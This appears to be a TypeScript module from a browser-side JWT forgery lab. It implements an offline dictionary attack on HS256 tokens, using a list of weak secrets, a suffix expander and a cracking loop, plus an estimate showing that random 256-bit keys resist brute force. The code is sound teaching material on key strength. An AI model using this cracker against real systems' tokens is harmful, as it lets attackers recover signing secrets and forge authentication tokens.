/**
 * The offline attack on an HS256 token: guess the secret, HMAC the token's signing input, compare
 * with its signature. No server is asked, so no rate limit or lockout can slow it down; only the
 * size of the key space can.
 *
 * Teaches: a human-chosen secret falls to a short wordlist in milliseconds. A 256-bit random key
 * cannot be guessed: `bruteForceEstimate` turns the rate measured on this very machine into the
 * expected time for 2^255 guesses (half the key space), in powers of ten — numbers computed from
 * the measurement, never typed.
 *
 * Flow step ids: none (browser-side helpers of the forgery lab).
 * Reference: RFC 8725 §2.2 ("Weak Symmetric Keys"), §3.5 (keys with sufficient entropy); RFC 7518
 * §3.2 ("A key of the same size as the hash output … MUST be used with this algorithm").
 */
import type { CompactParts } from './jose-segments.ts';
import { signHs256 } from './sign-compact.ts';

/** A few of the secrets that leaked tutorials and default configs use: the lab's wordlist. */
export const WEAK_SECRET_WORDLIST: readonly string[] = [
  '123456',
  'password',
  'changeme',
  'jwt',
  'jwt-secret',
  'your-256-bit-secret',
  'supersecret',
  'admin',
  'qwerty',
  'secret',
  'secretkey',
  'letmein',
];

/**
 * Each word, then each word followed by 0…suffixes-1 (`secret1`, `admin2024`…), as crackers do:
 * a longer run also gives the measured guess rate more than a timer tick to work with.
 */
export function expandWordlist(words: readonly string[], suffixes: number): string[] {
  const numbered = Array.from({ length: suffixes }, (_, n) => words.map((word) => `${word}${n}`));
  return [...words, ...numbered.flat()];
}

/** Milliseconds from any monotonic origin: `performance.now` in the page, a fake in tests. */
export type Timer = () => number;

export interface CrackResult {
  /** The secret whose HMAC matches the signature, or `null` when the list ran out. */
  readonly secret: string | null;
  readonly tried: number;
  readonly elapsedMs: number;
}

/** Tries every word of `wordlist` as the HS256 secret of `token`, in order, until one matches. */
export async function crackHs256Secret(
  token: CompactParts,
  wordlist: readonly string[],
  now: Timer,
): Promise<CrackResult> {
  const signingInput = `${token.encodedHeader}.${token.encodedPayload}`;
  const startedAt = now();
  let tried = 0;
  for (const word of wordlist) {
    tried += 1;
    if ((await signHs256(new TextEncoder().encode(word), signingInput)) === token.signature) {
      return { secret: word, tried, elapsedMs: now() - startedAt };
    }
  }
  return { secret: null, tried, elapsedMs: now() - startedAt };
}

const SECONDS_PER_YEAR = 31_557_600;
/** An estimate of the age of the universe, for scale: 13.8 billion years. */
const UNIVERSE_AGE_YEARS = 1.38e10;

export interface BruteForceEstimate {
  readonly keyBits: number;
  readonly guessesPerSecond: number;
  /** log10 of the guesses expected before a hit: half the key space, 2^(bits-1). */
  readonly expectedGuessesLog10: number;
  readonly expectedYearsLog10: number;
  /** How many ages of the universe that is, as log10. */
  readonly universeAgesLog10: number;
}

/** The expected time to find a random `keyBits`-bit key at the measured rate. */
export function estimateBruteForce(result: CrackResult, keyBits: number): BruteForceEstimate {
  // A rate needs a duration: a run faster than the timer's resolution counts as 1 ms.
  const guessesPerSecond = (result.tried * 1000) / Math.max(result.elapsedMs, 1);
  const expectedGuessesLog10 = (keyBits - 1) * Math.log10(2);
  const expectedYearsLog10 =
    expectedGuessesLog10 - Math.log10(guessesPerSecond) - Math.log10(SECONDS_PER_YEAR);
  return {
    keyBits,
    guessesPerSecond,
    expectedGuessesLog10,
    expectedYearsLog10,
    universeAgesLog10: expectedYearsLog10 - Math.log10(UNIVERSE_AGE_YEARS),
  };
}
